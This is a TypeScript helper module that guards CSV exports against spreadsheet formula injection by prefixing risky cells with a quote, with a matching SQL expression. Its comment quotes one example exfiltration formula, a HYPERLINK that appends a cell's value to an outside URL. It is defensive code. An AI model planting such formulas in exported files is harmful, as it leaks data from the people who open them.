// A CSV cell that a spreadsheet would take for a formula (OWASP, "CSV injection"): one starting with `=`, `+`, `-`,
// `@`, a tab or a carriage return. The files ddcn writes for people to open in Excel (rejects files, the portal's
// audit trail) hold text from outside — a name typed into a returned Mẫu 02, a login typed at the sign-in form —
// and `=HYPERLINK("http://…?"&B2)` in one would run when a clerk opens the file. Such a value is written with a `'`
// before it (OWASP's advice): a spreadsheet then holds it as text and runs nothing. The `'` stays visible in the
// cell (LibreOffice shows `'-5`), the sign that the value was changed to be safe; a legitimate value that starts
// so (a `-` placeholder, a negative target) reads with it. The Excel forms need no such care: their cells are
// written as text (shared strings) whatever they start with.

const FORMULA_START = /^[=+\-@\t\r]/;

/** The value as a CSV cell that no spreadsheet runs. */
export function csvText(v: string): string {
  return FORMULA_START.test(v) ? `'${v}` : v;
}

/** The same rule in SQL, for a text column written by COPY … TO STDOUT (FORMAT csv): `csvTextSql('login')`. */
export function csvTextSql(column: string): string {
  return `CASE WHEN ${column} ~ '^[-=+@\\t\\r]' THEN '''' || ${column} ELSE ${column} END AS ${column}`;
}
